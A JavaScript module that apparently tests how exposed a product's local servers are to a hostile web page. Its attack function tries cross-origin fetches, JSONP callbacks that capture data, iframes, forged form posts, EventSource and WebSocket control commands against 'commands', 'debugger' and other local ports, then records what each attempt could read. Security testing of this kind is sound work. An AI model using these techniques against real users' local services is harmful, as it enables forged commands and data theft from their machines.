// What a page tries on servers of the machine that it is shown on, in a browser. Each attempt ends, with what the page
// got to read, or null.
"use strict";
const intruder = (() => {
    let numCalled = 0;

    /// A message of a control channel.
    function envelope(id, uri, header) {
        const texts = new TextEncoder().encode(uri + JSON.stringify(header));
        const bytes = new Uint8Array(24 + texts.length);
        const view = new DataView(bytes.buffer);
        [id, 0xFFFFFFFF, uri.length, texts.length - uri.length, 0, 0].forEach((word, i) => view.setUint32(4 * i, word, true));
        bytes.set(texts, 24);
        return bytes;
    }
    function element(name, attributes, parent = document.body) {
        const made = document.createElement(name);
        for (const [key, value] of Object.entries(attributes))
            made.setAttribute(key, value);
        parent.append(made);
        return made;
    }
    /// Until the element has loaded or failed.
    function settled(made) {
        return new Promise((resolve) => {
            made.addEventListener("load", () => resolve(true), { once: true });
            made.addEventListener("error", () => resolve(false), { once: true });
        });
    }
    async function fetched(address, options) {
        try {
            const response = await fetch(address, options);
            const text = await response.text();
            return text === "" ? null : text;
        } catch {
            return null;
        }
    }
    async function image(address) {
        const made = document.createElement("img");
        const end = settled(made);
        made.src = address;
        return await end ? "an image" : null;
    }
    /// A script may call a function of the page with what it holds.
    async function script(address) {
        let stolen = null;
        const name = "stolen" + ++numCalled;
        window[name] = (content) => { stolen = JSON.stringify(content); };
        const made = document.createElement("script");
        const end = settled(made);
        made.src = address + (address.includes("?") ? "&" : "?") + "callback=" + name;
        document.body.append(made);
        await end;
        return stolen;
    }
    function contentOf(frame) {
        try {
            return frame.contentDocument?.body.innerText || null;
        } catch {
            return null;
        }
    }
    async function frame(address) {
        const made = document.createElement("iframe");
        const end = settled(made);
        made.src = address;
        document.body.append(made);
        await end;
        return contentOf(made);
    }
    async function form(address, method, type) {
        const name = "frame" + Math.random();
        const target = document.createElement("iframe");
        target.name = name;
        const empty = settled(target);
        document.body.append(target);
        await empty;
        const made = element("form", { action: address, method, enctype: type, target: name });
        element("input", { name: "text", value: "speed" }, made);
        const end = settled(target);
        made.submit();
        await end;
        return contentOf(target);
    }
    function eventSource(address) {
        return new Promise((resolve) => {
            const source = new EventSource(address);
            source.onmessage = (event) => resolve(event.data);
            source.onerror = () => { source.close(); resolve(null); };
        });
    }
    /// Talks to a control channel, and ends with the answer to the last message, or the text that came in its place.
    function socket(address, protocols) {
        return new Promise((resolve) => {
            const made = new WebSocket(address, protocols);
            made.binaryType = "arraybuffer";
            const answers = [];
            made.onopen = () => {
                made.send(envelope(1, "Touch", {}));
                made.send(envelope(2, "Value.Set", { path: "speed", value: 7 }));
                made.send(envelope(3, "Object.Describe", { path: "" }));
            };
            made.onmessage = ({ data }) => {
                answers.push(typeof data === "string" ? data : new TextDecoder().decode(data.slice(24)));
                if (answers.length === 3)
                    made.close();
            };
            made.onclose = () => resolve(answers.length === 0 ? null : answers.join("\n"));
        });
    }

    /// All that it tries on the servers of a host.
    /// @param ports  of the servers "commands", "debugger", "open" and "closed"
    /// @return what each attempt got to read, by its name
    async function attack(host, ports) {
        const read = {};
        const attempt = async (name, ends) => { read[name] = await ends; };
        const http = (server, path) => "http://" + host + ":" + ports[server] + path;
        const json = { "Content-Type": "application/json" };
        const scripts = async (server, path) => {
            const address = http(server, path);
            const name = (what) => what + " " + server + path;
            await attempt(name("fetch"), fetched(address));
            await attempt(name("fetch, no-cors"), fetched(address, { mode: "no-cors" }));
            await attempt(name("fetch with cookies"), fetched(address, { credentials: "include" }));
            await attempt(name("preflight, a header"), fetched(address, { headers: { Token: "secret" } }));
            await attempt(name("preflight, a type"), fetched(address, { method: "POST", headers: json, body: "{}" }));
            for (const method of ["PUT", "DELETE", "PATCH"])
                await attempt(name(method), fetched(address, { method, body: "gone" }));
            await attempt(name("POST, no-cors"), fetched(address, { mode: "no-cors", method: "POST", body: "text=speed" }));
            await attempt(name("HEAD, no-cors"), fetched(address, { mode: "no-cors", method: "HEAD" }));
            navigator.sendBeacon(address, "text=speed");
            await attempt(name("image"), image(address));
            await attempt(name("script"), script(address));
            await attempt(name("events"), eventSource(address));
        };
        for (const path of ["/", "/data.txt", "/touch", "/zelRemote/Command?text=speed", "/zelRemote/Script?text=x", "/zelJournal/NavigationTree"])
            await scripts("commands", path);
        for (const path of ["/", "/data.txt"])
            await scripts("debugger", path);
        // These take seconds: browsers keep a connection in reserve, for which the only worker of a server waits. A channel lets
        // what is no handshake wait for 5 seconds, and a browser asks for one address once at a time.
        await Promise.all([
            attempt("frame commands", frame(http("commands", "/touch"))),
            attempt("frame debugger", frame(http("debugger", "/"))),
            attempt("form, GET commands", form(http("commands", "/zelRemote/Script"), "get", "text/plain")),
            attempt("form, POST text commands", form(http("commands", "/touch?1"), "post", "text/plain")),
            attempt("form, POST commands", form(http("commands", "/touch?2"), "post", "application/x-www-form-urlencoded")),
            attempt("form, POST file commands", form(http("commands", "/data.txt"), "post", "multipart/form-data")),
            attempt("form, POST debugger", form(http("debugger", "/data.txt"), "post", "multipart/form-data")),
            ...["open", "closed"].flatMap((server) => [
                attempt("fetch " + server, fetched(http(server, "/?1"))),
                attempt("fetch, no-cors " + server, fetched(http(server, "/?2"), { mode: "no-cors" })),
                attempt("POST, no-cors " + server, fetched(http(server, "/?3"), { mode: "no-cors", method: "POST", body: envelope(1, "Touch", {}) })),
                attempt("script " + server, script(http(server, "/"))),
                attempt("frame " + server, frame(http(server, "/?5"))),
                attempt("form, POST " + server, form(http(server, "/?6"), "post", "text/plain")),
            ]),
        ]);
        for (const server of ["commands", "debugger", "open", "closed"])
            for (const protocols of [[], ["zel_stream"], ["another", "zel_stream"]])
                await attempt("WebSocket " + server + " " + protocols, socket("ws://" + host + ":" + ports[server] + "/", protocols));
        return read;
    }
    return { attack };
})();
